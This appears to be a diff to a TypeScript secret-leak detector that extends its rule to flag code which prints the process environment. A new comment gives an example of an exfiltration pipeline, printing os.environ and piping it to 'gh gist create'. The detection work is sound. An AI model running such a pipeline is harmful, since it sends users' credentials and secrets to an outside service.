@@ -133,6 +133,8 @@ export function judgeCodeIn(st: State, code: string, lang: string, ctx: Context,
   if (secret === undefined && v.secretNamed === 'environ') secret = st.sourcedSecret;
   // (Handed to a child process or a local server — a spawn given the environment, localhost — it stays on this machine.)
   if (secret === undefined && envDump && [...v.urls, ...v.mentions].some((u) => !/^[a-z]+:\/\/(localhost|127\.\d+\.\d+\.\d+|\[::1\]|0\.0\.0\.0)([:/]|$)/i.test(u))) secret = ENVIRON;
+  // (…and printed, it is what the line's next command gets: print(dict(os.environ)) | gh gist create -, as env | … is.)
+  if (secret === undefined && envDump && PRINTS.test(code)) secret = ENVIRON;
   if (secret === undefined && v.secretNamed !== undefined) {
     // A secret named in pieces or beside a home lookup: the file that name points at.
     const n = v.secretNamed;
